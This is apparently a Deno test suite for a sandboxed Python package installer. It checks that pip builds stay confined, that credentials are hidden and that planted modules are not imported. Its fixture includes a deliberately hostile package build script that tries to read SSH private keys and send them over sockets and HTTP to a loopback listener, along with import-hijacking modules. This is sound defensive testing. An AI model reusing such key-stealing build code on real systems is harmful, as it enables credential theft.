/**
 * PythonRuntime installs inside the sandbox, from a package index on loopback, and the host-side
 * Python that imports nothing it should not.
 */
import assert from "node:assert/strict";
import { markerFile } from "../../src/runtimes/_build_once.ts";
import { basename, join } from "node:path";
import { DependencyError } from "../../src/errors.ts";
import { type CommandSpec, execCommand } from "../../src/exec.ts";
import {
  pipIndexIdentity,
  PythonRuntime,
  READY_MARKER,
  venvKey,
} from "../../src/runtimes/python.ts";
import { BubblewrapBackend } from "../../src/sandbox/linux.ts";
import type { SandboxBackend, SandboxPolicy } from "../../src/sandbox/types.ts";
import { sha256 } from "../../src/_hash.ts";
import { buildSdist, buildWheel } from "../helpers/wheel.ts";
import {
  building,
  FIXTURE,
  type Fixture,
  fixture,
  manifest,
  PY_VERSION,
  venvDirs,
  venvOf,
} from "./_python.ts";

// --- Installs inside the sandbox, from a package index on loopback ---------------------------

const backend = Deno.build.os === "linux" ? new BubblewrapBackend() : undefined;
const SANDBOX = backend !== undefined && (await backend.available()).ok &&
  (await backend.proxyAvailable()).ok;
const KEY = "-----BEGIN FAKE KEY----- capibara-test-key-3f9a1c -----END FAKE KEY-----";

/** A file a project page of the index lists. */
interface Listed {
  file: string;
  bytes: Uint8Array<ArrayBuffer>;
  /** Where the page says the file is (default: this index's `/files/<file>`). */
  href?: string;
}

/** A PEP 503 "simple" index on 127.0.0.1, serving the given projects. */
async function serveIndex(
  projects: Record<string, Listed[]>,
): Promise<AsyncDisposable & { url: string; requests: string[] }> {
  const requests: string[] = [];
  const files = new Map(Object.values(projects).flat().map((f) => [f.file, f.bytes]));
  const pages = new Map<string, string>();
  for (const [project, listed] of Object.entries(projects)) {
    const links = await Promise.all(
      listed.map(async (f) =>
        `<a href="${f.href ?? `/files/${f.file}`}#sha256=${await sha256(f.bytes)}">${f.file}</a>`
      ),
    );
    pages.set(project, `<!DOCTYPE html><html><body>\n${links.join("<br>\n")}\n</body></html>\n`);
  }
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
    const path = new URL(request.url).pathname;
    requests.push(path);
    const page = /^\/simple\/([^/]+)\/?$/.exec(path);
    if (page && pages.has(page[1]!)) {
      return new Response(pages.get(page[1]!), { headers: { "content-type": "text/html" } });
    }
    const file = /^\/files\/([^/]+)$/.exec(path);
    if (file && files.has(file[1]!)) return new Response(files.get(file[1]!)!);
    return new Response("not found", { status: 404 });
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}/simple/`,
    requests,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

/** A TCP listener on loopback that is not the index: it counts the connections it gets. */
function otherListener(): Disposable & { port: number; connections: () => number } {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let connections = 0;
  (async () => {
    try {
      for await (const conn of listener) {
        connections++;
        conn.close();
      }
    } catch {
      // closed
    }
  })();
  return {
    port: listener.addr.port,
    connections: () => connections,
    [Symbol.dispose]: () => listener.close(),
  };
}

interface IndexFixture extends AsyncDisposable {
  fx: Fixture;
  index: { url: string; requests: string[] };
  other: { port: number; connections: () => number };
  /** The fake home the runtime's environment names, with `.ssh/id_rsa` holding KEY. */
  home: string;
  /** Where a build that escaped would leave marks. */
  outsideMarker: string;
  exfilFile: string;
  env: Record<string, string>;
}

/**
 * An index serving `capibara-good` (a wheel), `capibara-evil` (only an sdist whose build tries
 * to escape) and `capibara-elsewhere` (a wheel whose link points at the other listener).
 */
async function indexFixture(): Promise<IndexFixture> {
  const fx = await fixture();
  const root = await Deno.realPath(fx.tmp.path);
  const home = join(root, "home");
  await Deno.mkdir(join(home, ".ssh"), { recursive: true });
  await Deno.writeTextFile(join(home, ".ssh", "id_rsa"), KEY);
  const other = otherListener();
  const outsideMarker = join(root, "escaped-marker");
  const exfilFile = join(root, "exfil.txt");
  const dist = join(root, "dist");
  const good = await buildWheel(dist, {
    name: "capibara-good",
    version: "1.0.0",
    module: { "capibara_good.py": 'VALUE = "good"\n' },
  });
  const elsewhere = await buildWheel(dist, {
    name: "capibara-elsewhere",
    version: "1.0.0",
    module: { "capibara_elsewhere.py": "VALUE = 1\n" },
  });
  const evil = await buildSdist(dist, {
    name: "capibara-evil",
    version: "1.0.0",
    module: { "capibara_evil.py": "VALUE = 1\n" },
    buildCode: `
import os, socket, urllib.request
OUTSIDE, HOME, EXFIL, PORT = ${
      JSON.stringify(JSON.stringify([outsideMarker, home, exfilFile]))
    }, None, None, ${other.port}
import json as _json
OUTSIDE, HOME, EXFIL = _json.loads(OUTSIDE)
report = {}
stolen = []
def attempt(name, action):
    try:
        report[name] = "ok:" + str(action())
    except Exception as error:
        report[name] = "denied:" + type(error).__name__
def steal(path):
    data = open(path).read()
    stolen.append(data)
    return len(data)
attempt("write_outside", lambda: open(OUTSIDE, "w").write("escaped"))
attempt("write_home", lambda: open(os.path.join(HOME, "escaped"), "w").write("escaped"))
attempt("read_key", lambda: steal(os.path.join(HOME, ".ssh", "id_rsa")))
attempt("read_key_tilde", lambda: steal(os.path.expanduser("~/.ssh/id_rsa")))
attempt("read_root_key", lambda: steal("/root/.ssh/id_rsa"))
secret = stolen[0] if stolen else "nothing"
attempt("exfil_file", lambda: open(EXFIL, "w").write(secret))
attempt("connect", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=5).sendall(secret.encode()))
attempt("via_proxy", lambda: urllib.request.urlopen("http://127.0.0.1:%d/" % PORT, secret.encode(), timeout=5).status)
files["capibara_evil_report.py"] = "REPORT = " + repr(report) + "\\n"
`,
  });
  const read = async (path: string) => await Deno.readFile(path);
  const index = await serveIndex({
    "capibara-good": [{ file: basename(good), bytes: await read(good) }],
    "capibara-evil": [{ file: basename(evil), bytes: await read(evil) }],
    "capibara-elsewhere": [{
      file: basename(elsewhere),
      bytes: await read(elsewhere),
      href: `http://127.0.0.1:${other.port}/files/${basename(elsewhere)}`,
    }],
  });
  return {
    fx,
    index,
    other,
    home,
    outsideMarker,
    exfilFile,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME: home,
      PIP_CONFIG_FILE: "/dev/null", // the machine's pip.conf names other indexes
      PIP_INDEX_URL: index.url,
    },
    async [Symbol.asyncDispose]() {
      other[Symbol.dispose]();
      await index[Symbol.asyncDispose]();
      await fx[Symbol.asyncDispose]();
    },
  };
}

/** Every file under `dir` (but `except`) that holds `needle`. */
async function filesHolding(dir: string, needle: string, except: string): Promise<string[]> {
  const found: string[] = [];
  for await (const entry of Deno.readDir(dir)) {
    const path = join(dir, entry.name);
    if (path === except) continue;
    if (entry.isDirectory) found.push(...await filesHolding(path, needle, except));
    else if (entry.isFile && (await Deno.readTextFile(path).catch(() => "")).includes(needle)) {
      found.push(path);
    }
  }
  return found;
}

async function assertNoEscape(ix: IndexFixture): Promise<void> {
  await assert.rejects(Deno.stat(ix.outsideMarker), Deno.errors.NotFound);
  await assert.rejects(Deno.stat(join(ix.home, "escaped")), Deno.errors.NotFound);
  await assert.rejects(Deno.stat(ix.exfilFile), Deno.errors.NotFound);
  assert.deepEqual(
    await filesHolding(ix.fx.tmp.path, KEY, join(ix.home, ".ssh", "id_rsa")),
    [],
    "the key's bytes are nowhere but in the key",
  );
  assert.equal(ix.other.connections(), 0);
}

function sandboxTest(name: string, fn: () => Promise<void>): void {
  Deno.test({ name, ignore: !SANDBOX, fn });
}

sandboxTest(
  "PythonRuntime.prepare() installs a wheel from a loopback index in the sandbox",
  async () => {
    await using ix = await indexFixture();
    const warnings: string[] = [];
    const prepared = await new PythonRuntime({ env: ix.env }).prepare(
      manifest(["capibara-good==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend, warn: (m) => warnings.push(m) },
    );
    assert.deepEqual(warnings, []);
    const marker = JSON.parse(await Deno.readTextFile(markerFile(venvOf(prepared), READY_MARKER)));
    assert.deepEqual(marker.install, { confined: true, source_builds: false });
    assert.ok(ix.index.requests.includes("/simple/capibara-good/"), ix.index.requests.join());
    const check = await execCommand({
      program: prepared.interpreter,
      args: ["-c", "import capibara_good; print(capibara_good.VALUE)"],
      env: { PATH: "/usr/bin:/bin", ...prepared.env },
      cwd: ix.fx.tmp.path,
    }, { timeoutMs: 30_000 });
    assert.equal(check.stdout.trim(), "good", check.stderr);
  },
);

sandboxTest("PythonRuntime.prepare() reaches no loopback port but the index's", async () => {
  await using ix = await indexFixture();
  const error = await new PythonRuntime({ env: ix.env }).prepare(
    manifest(["capibara-elsewhere==1.0.0"]),
    ix.fx.scriptDir,
    { cacheDir: ix.fx.cacheDir, sandbox: backend },
  ).then(() => undefined, (e) => e);
  assert.ok(error instanceof DependencyError, String(error));
  assert.match(error.message, /^Cannot install requirements: /);
  assert.ok(ix.index.requests.includes("/simple/capibara-elsewhere/"));
  assert.equal(ix.other.connections(), 0);
  assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
});

sandboxTest("PythonRuntime.prepare() refuses an sdist by default, quoting pip", async () => {
  await using ix = await indexFixture();
  const error = await new PythonRuntime({ env: ix.env }).prepare(
    manifest(["capibara-evil==1.0.0"]),
    ix.fx.scriptDir,
    { cacheDir: ix.fx.cacheDir, sandbox: backend },
  ).then(() => undefined, (e) => e);
  assert.ok(error instanceof DependencyError, String(error));
  assert.equal(error.exitCode, 3);
  assert.match(error.message, /No matching distribution found for capibara-evil==1\.0\.0/);
  assert.match(error.hint, /install\.source_builds/);
  assert.doesNotMatch(error.hint, /--no-sandbox/);
  assert.equal(error.details?.source_only, "capibara-evil");
  assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
  await assertNoEscape(ix);
});

sandboxTest("PythonRuntime.prepare() never builds an sdist without a sandbox", async () => {
  await using ix = await indexFixture();
  const warnings: string[] = [];
  const error = await new PythonRuntime({ env: ix.env }).prepare(
    manifest(["capibara-evil==1.0.0"]),
    ix.fx.scriptDir,
    { cacheDir: ix.fx.cacheDir, sourceBuilds: true, warn: (m) => warnings.push(m) },
  ).then(() => undefined, (e) => e);
  assert.ok(error instanceof DependencyError, String(error));
  assert.match(error.message, /No matching distribution found/);
  assert.match(error.hint, /install\.source_builds.*sandbox on/);
  assert.equal(warnings.length, 1);
  assert.match(warnings[0]!, /WITHOUT a sandbox.*source_builds is ignored/s);
  await assertNoEscape(ix);
});

sandboxTest("PythonRuntime.prepare() runs an opted-in source build confined", async () => {
  await using ix = await indexFixture();
  const prepared = await new PythonRuntime({ env: ix.env }).prepare(
    manifest(["capibara-evil==1.0.0"]),
    ix.fx.scriptDir,
    { cacheDir: ix.fx.cacheDir, sandbox: backend, sourceBuilds: true },
  );
  // The build ran (its report was installed), and every attempt failed.
  const run = await execCommand({
    program: prepared.interpreter,
    args: [
      "-c",
      "import json, capibara_evil_report; print(json.dumps(capibara_evil_report.REPORT))",
    ],
    env: { PATH: "/usr/bin:/bin", ...prepared.env },
    cwd: ix.fx.tmp.path,
  }, { timeoutMs: 30_000 });
  assert.equal(run.code, 0, run.stderr);
  const report = JSON.parse(run.stdout) as Record<string, string>;
  assert.deepEqual(Object.keys(report).sort(), [
    "connect",
    "exfil_file",
    "read_key",
    "read_key_tilde",
    "read_root_key",
    "via_proxy",
    "write_home",
    "write_outside",
  ]);
  // Reads and connections fail inside; writes may land in the sandbox's private /tmp, which is
  // why what matters is checked on the host below.
  for (const attempt of ["read_key", "read_key_tilde", "read_root_key", "connect", "via_proxy"]) {
    assert.match(report[attempt]!, /^denied:/, `${attempt}: ${report[attempt]}`);
  }
  const marker = JSON.parse(await Deno.readTextFile(markerFile(venvOf(prepared), READY_MARKER)));
  assert.deepEqual(marker.install, { confined: true, source_builds: true });
  await assertNoEscape(ix);
});

sandboxTest("PythonRuntime.prepare() gives no build script an index's credentials", async () => {
  await using ix = await indexFixture();
  const withCredentials = ix.index.url.replace("http://", "http://alice:s3cr3t-index-token@");
  const origin = new URL(ix.index.url).origin;
  for (
    const env of [
      { PIP_INDEX_URL: withCredentials },
      { PIP_EXTRA_INDEX_URL: withCredentials },
      { PIP_FIND_LINKS: `${withCredentials}capibara-evil/` },
      // Hosted indexes put the token in the path, or a query (an attacker's review).
      { PIP_INDEX_URL: `${origin}/s3cr3t0tok3n0123/org/repo/python/simple/` },
      { PIP_INDEX_URL: `${ix.index.url}?token=s3cr3t` },
    ]
  ) {
    const error = await new PythonRuntime({ env: { ...ix.env, ...env } }).prepare(
      manifest(["capibara-evil==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend, sourceBuilds: true },
    ).then(() => undefined, (e) => e);
    assert.ok(error instanceof DependencyError, String(error));
    assert.match(error.message, /may hold credentials/);
    assert.doesNotMatch(JSON.stringify([error.message, error.hint, error.details]), /s3cr3t/);
  }
  // Nothing was asked of the index, nothing built.
  assert.equal(ix.index.requests.length, 0, ix.index.requests.join());
  assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
  // Wheels only, the same index with its credentials installs: pip alone reads them.
  const prepared = await new PythonRuntime({
    env: { ...ix.env, PIP_INDEX_URL: withCredentials },
  }).prepare(
    manifest(["capibara-good==1.0.0"]),
    ix.fx.scriptDir,
    { cacheDir: ix.fx.cacheDir, sandbox: backend },
  );
  assert.ok((await Deno.stat(prepared.interpreter)).isFile);
});

sandboxTest(
  "PythonRuntime.prepare() never gives a project without source builds an environment one built",
  async () => {
    await using ix = await indexFixture();
    // capibara-good has a wheel: the same set is installable either way.
    const built = await new PythonRuntime({ env: ix.env }).prepare(
      manifest(["capibara-good==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend, sourceBuilds: true },
    );
    const wheelsOnly = await new PythonRuntime({ env: ix.env }).prepare(
      manifest(["capibara-good==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend },
    );
    assert.notEqual(venvOf(wheelsOnly), venvOf(built));
    const marker = JSON.parse(
      await Deno.readTextFile(markerFile(venvOf(wheelsOnly), READY_MARKER)),
    );
    assert.deepEqual(marker.install, { confined: true, source_builds: false });
    // An environment built from source moved to the wheels-only key is not taken either.
    await Deno.remove(venvOf(wheelsOnly), { recursive: true });
    await Deno.rename(venvOf(built), venvOf(wheelsOnly));
    const again = await new PythonRuntime({ env: ix.env }).prepare(
      manifest(["capibara-good==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend },
    );
    const rebuilt = JSON.parse(await Deno.readTextFile(markerFile(venvOf(again), READY_MARKER)));
    assert.equal(rebuilt.install.source_builds, false);
  },
);

sandboxTest(
  "PythonRuntime.prepare() stops an install that writes past its bound, and keeps nothing of it",
  async () => {
    await using ix = await indexFixture();
    // A small wheel that unpacks to more files than the bound (a zip bomb, in files).
    const module: Record<string, string> = {};
    for (let i = 0; i < 300; i++) module[`capibara_many_${i}.py`] = `VALUE = ${i}\n`;
    const wheel = await buildWheel(join(ix.fx.tmp.path, "many"), {
      name: "capibara-many",
      version: "1.0.0",
      module,
    });
    await using index = await serveIndex({
      "capibara-many": [{ file: basename(wheel), bytes: await Deno.readFile(wheel) }],
    });
    const runtime = (files: number) =>
      new PythonRuntime({
        env: { ...ix.env, PIP_INDEX_URL: index.url },
        installLimits: { bytes: 1024 ** 3, files },
      });
    const error = await runtime(100).prepare(
      manifest(["capibara-many==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend },
    ).then(() => undefined, (e) => e);
    assert.ok(error instanceof DependencyError, String(error));
    assert.match(error.message, /past its bound of 1\.0 GiB and 100 files/);
    assert.ok((error.details?.files as number) > 100);
    assert.deepEqual(await venvDirs(ix.fx.cacheDir), []);
    // Within its bound, the same install is kept.
    const prepared = await runtime(5_000).prepare(
      manifest(["capibara-many==1.0.0"]),
      ix.fx.scriptDir,
      { cacheDir: ix.fx.cacheDir, sandbox: backend },
    );
    assert.equal((await venvDirs(ix.fx.cacheDir)).length, 1);
    assert.ok((await Deno.stat(prepared.interpreter)).isFile);
  },
);

sandboxTest(
  "PythonRuntime.prepare() builds a set once for concurrent sandboxed callers",
  async () => {
    await using ix = await indexFixture();
    const progress: string[] = [];
    const results = await Promise.all(
      [0, 1, 2].map(() =>
        new PythonRuntime({ env: ix.env }).prepare(
          manifest(["capibara-good==1.0.0"]),
          ix.fx.scriptDir,
          {
            cacheDir: ix.fx.cacheDir,
            sandbox: backend,
            progress: (m) => progress.push(m),
          },
        )
      ),
    );
    assert.equal(building(progress).length, 1, progress.join("\n"));
    assert.equal(new Set(results.map(venvOf)).size, 1);
    assert.equal(
      ix.index.requests.filter((r) => r === "/files/capibara_good-1.0.0-py3-none-any.whl").length,
      1,
    );
  },
);

Deno.test("PythonRuntime.prepare() confines pip to the venv, the index and a private home", async () => {
  await using fx = await fixture();
  const home = join(fx.tmp.path, "home");
  const index = "https://user:s3cret@pypi.corp.example:8443/simple";
  const wrapped: { spec: CommandSpec; policy: SandboxPolicy }[] = [];
  // Records what it is asked to run, and runs `false` instead: pip "fails".
  const recording: SandboxBackend = {
    name: "recording",
    available: () => Promise.resolve({ ok: true }),
    wrap: (spec, policy) => {
      wrapped.push({ spec, policy });
      const fail = { program: "/bin/sh", args: ["-c", "exit 1"], env: {}, cwd: "/" };
      return Promise.resolve({ spec: fail, close: () => Promise.resolve() });
    },
  };
  const env = { PATH: Deno.env.get("PATH") ?? "", HOME: home, PIP_CONFIG_FILE: "/dev/null" };
  await assert.rejects(
    new PythonRuntime({ env }).prepare(manifest([`${FIXTURE}==1.0.0`]), fx.scriptDir, {
      cacheDir: fx.cacheDir,
      sandbox: recording,
      indexUrl: index,
    }),
    DependencyError,
  );
  assert.equal(wrapped.length, 1);
  const [{ spec, policy }] = wrapped as [{ spec: CommandSpec; policy: SandboxPolicy }];
  const venv = join(
    fx.cacheDir,
    "venvs",
    `py${PY_VERSION}-${await venvKey(PY_VERSION, [
      `${FIXTURE}==1.0.0`,
    ], { index: await pipIndexIdentity(env, index) })}`,
  );
  assert.equal(spec.program, join(venv, "bin", "python"));
  assert.ok(spec.args.includes("--only-binary"), spec.args.join(" "));
  // Credentials travel in the environment, never on a command line other users can read.
  assert.ok(!spec.args.some((a) => a.includes("s3cret")), spec.args.join(" "));
  assert.equal(spec.env.PIP_INDEX_URL, index);
  assert.equal(spec.env.PIP_CONFIG_FILE, "/dev/null");
  assert.deepEqual(policy.network, ["pypi.corp.example:8443"]);
  assert.deepEqual(policy.privateNetwork, ["pypi.corp.example:8443"]);
  assert.deepEqual(policy.write, [venv, join(fx.cacheDir, "pip")]);
  assert.equal(policy.workdir, venv);
  assert.ok(!policy.read.some((p) => p.startsWith(fx.tmp.path)), policy.read.join());
  assert.ok(!policy.tmpDir.startsWith(home));
  assert.deepEqual(await venvDirs(fx.cacheDir), []);
});

/** Plants modules Python would import from `dir` (as cwd, script dir or PYTHONPATH); each writes `marker`. */
async function plantModules(dir: string, marker: string): Promise<void> {
  const code = (name: string) =>
    `open(${JSON.stringify(marker)}, "a").write(${JSON.stringify(name + "\n")})\n`;
  await Deno.writeTextFile(join(dir, "json.py"), code("json"));
  await Deno.writeTextFile(join(dir, "sitecustomize.py"), code("sitecustomize"));
  await Deno.writeTextFile(join(dir, "usercustomize.py"), code("usercustomize"));
  await Deno.writeTextFile(join(dir, "runpy.py"), code("runpy"));
  await Deno.writeTextFile(join(dir, "pip_evil.pth"), `import os; ${code("pth").trim()}\n`);
  await Deno.mkdir(join(dir, "encodings"), { recursive: true });
  await Deno.writeTextFile(join(dir, "encodings", "__init__.py"), code("encodings"));
  await Deno.mkdir(join(dir, "pip"), { recursive: true });
  await Deno.writeTextFile(join(dir, "pip", "__init__.py"), code("pip"));
}

Deno.test("PythonRuntime host-side Python imports nothing from the cwd, the project or PYTHON* variables", async () => {
  await using fx = await fixture();
  const project = join(fx.tmp.path, "project");
  const marker = join(fx.tmp.path, "imported.txt");
  await plantModules(project, marker);
  await plantModules(fx.scriptDir, marker);
  // In a process of its own whose current directory is the project (a chdir here would move
  // every test running in parallel).
  const code = `
const { PythonRuntime } = await import(${
    JSON.stringify(import.meta.resolve("../../src/runtimes/python.ts"))
  });
const { Manifest } = await import(${JSON.stringify(import.meta.resolve("../../src/schema.ts"))});
const a = JSON.parse(Deno.env.get("CAPIBARA_TEST_ARGS"));
const runtime = new PythonRuntime({ env: a.env });
// The interpreter probe, pip's configuration query and the venv's creation all run here.
console.log((await runtime.describe()).version);
await runtime.prepare(Manifest.parse(a.manifest), a.scriptDir, { cacheDir: a.cacheDir, warn() {} });
console.log("prepared");`;
  const args = {
    env: {
      ...fx.env,
      PYTHONPATH: project,
      PYTHONSTARTUP: join(project, "json.py"),
      PYTHONUSERBASE: project,
    },
    manifest: manifest([`${FIXTURE}==1.0.0`]),
    scriptDir: fx.scriptDir,
    cacheDir: fx.cacheDir,
  };
  const result = await execCommand({
    program: Deno.execPath(),
    args: ["eval", "--config", new URL("../../deno.json", import.meta.url).pathname, code],
    env: { PATH: Deno.env.get("PATH") ?? "", CAPIBARA_TEST_ARGS: JSON.stringify(args) },
    cwd: project,
  }, { timeoutMs: 120_000 });
  assert.equal(result.code, 0, result.stderr);
  assert.deepEqual(result.stdout.trim().split("\n"), [PY_VERSION, "prepared"]);
  const imported = await Deno.readTextFile(marker).catch(() => "");
  assert.equal(imported, "", `host-side Python imported planted modules: ${imported}`);
});
